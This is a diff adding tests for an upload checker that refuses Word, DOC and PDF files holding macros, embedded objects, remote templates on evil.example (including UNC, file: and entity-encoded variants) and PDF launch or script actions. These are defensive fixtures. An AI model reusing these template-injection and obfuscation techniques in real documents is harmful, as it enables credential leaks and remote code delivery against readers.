@@ -147,3 +147,109 @@ describe('S20: what a DOCX unpacks to', () => {
     await expect(check(whole.subarray(0, -5_000))).rejects.toThrow('damaged');
   });
 });
+
+describe('S37: a Word document that does more than show its text', () => {
+  const part = (name: string, content: string | Buffer = 'x') => ({ name, content: Buffer.from(content) });
+  const relation = (type: string, target: string, mode = 'External') =>
+    `<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
+  const settings = (text: string | Buffer) => part('word/_rels/settings.xml.rels', text);
+  const macro = 'it holds a macro';
+  const object = 'it holds an embedded object';
+  const remote = 'it loads something from elsewhere';
+  const check = async (parts: Parameters<typeof docx>[1]) =>
+    checkContent('cv_resume', 'docx', await fileOf(docx('Cursus', parts)));
+
+  it.each([
+    ['a macro', [part('word/vbaProject.bin')], macro],
+    ['a macro by another place', [part('custom/VBAPROJECT.BIN')], macro],
+    [
+      'a macro that only a relation names',
+      [settings(relation('x', 'y', 'Internal').replace('/x"', '/vbaProject"'))],
+      macro,
+    ],
+    ['an OLE object', [part('word/embeddings/oleObject1.bin')], object],
+    ['an OLE object elsewhere', [settings(relation('oleObject', '../x.dat', 'Internal'))], object],
+    ['a control', [part('word/activeX/activeX1.xml')], object],
+    ['a remote template', [settings(relation('attachedTemplate', 'https://evil.example/t.dotm'))], remote],
+    [
+      'a template on another machine',
+      [settings(relation('attachedTemplate', '\\\\evil.example\\t.dotm'))],
+      remote,
+    ],
+    ['a template by file:', [settings(relation('attachedTemplate', 'file://evil.example/t.dotm'))], remote],
+    ['a picture that tells who looks', [settings(relation('image', 'http://evil.example/p.png'))], remote],
+    [
+      'a remote template in UTF-16',
+      [settings(Buffer.from(`\ufeff${relation('attachedTemplate', 'https://evil.example/t')}`, 'utf16le'))],
+      remote,
+    ],
+    [
+      'a remote template in numbered characters',
+      [
+        settings(
+          relation('attachedTemplate', 'h&#116;tps://evil.example/t').replace('External', 'Ext&#x65;rnal'),
+        ),
+      ],
+      remote,
+    ],
+    [
+      'names of its own',
+      [settings(`<!DOCTYPE x [<!ENTITY e "External">]>${relation('image', 'x')}`)],
+      'it is damaged',
+    ],
+  ])('%s is refused with a sentence', async (_, parts, sentence) => {
+    await expect(check(parts)).rejects.toThrow(`This DOCX cannot be accepted: ${sentence}`);
+  });
+
+  it('a content type of macros is refused', async () => {
+    const archive = zip([
+      part(
+        '[Content_Types].xml',
+        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+      ),
+      part('word/document.xml', '<w:document/>'),
+    ]);
+    await expect(checkContent('cv_resume', 'docx', await fileOf(archive))).rejects.toThrow(macro);
+  });
+
+  it('links, pictures of its own and the template it was made from are no reason', async () => {
+    const disk = 'C:';
+    const harmless = [
+      settings(relation('attachedTemplate', `file:///${disk}\\Users\\Anna\\Templates\\CV.dotx`)),
+      part('word/_rels/document.xml.rels', relation('hyperlink', 'https://adjutant.example')),
+      part('word/media/image1.png'),
+      part('word/_rels/header.xml.rels', relation('image', 'media/image1.png', 'Internal')),
+    ];
+    await expect(check(harmless)).resolves.toBeUndefined();
+  });
+
+  it.each([
+    ['Macros', macro],
+    ['_VBA_PROJECT', macro],
+    ['\u0001Ole10Native', object],
+  ])('DOC with %j is refused', async (stream, sentence) => {
+    const both = compound();
+    const other = compound(stream).subarray(512 * 2 + 128, 512 * 2 + 256);
+    other.copy(both, 512 * 2 + 256);
+    await expect(checkContent('cv_resume', 'doc', await fileOf(both))).rejects.toThrow(
+      `This DOC cannot be accepted: ${sentence}`,
+    );
+    await expect(checkContent('cv_resume', 'doc', await fileOf(compound()))).resolves.toBeUndefined();
+  });
+});
+
+describe('S37: a PDF', () => {
+  const opening = (action: string) =>
+    Buffer.from(
+      pdf().toString('latin1').replace('/Type/Catalog', `/Type/Catalog/OpenAction<<${action}>>`),
+      'latin1',
+    );
+  it.each([
+    ['/S/JavaScript/JS(app.alert(1))', 'it holds a script'],
+    ['/S/Launch/F(cmd.exe)', 'it would start another program'],
+  ])('with %s is refused with a sentence', async (action, sentence) => {
+    await expect(checkContent('passport_id', 'pdf', await fileOf(opening(action)))).rejects.toThrow(
+      `This PDF cannot be accepted: ${sentence}`,
+    );
+  });
+});
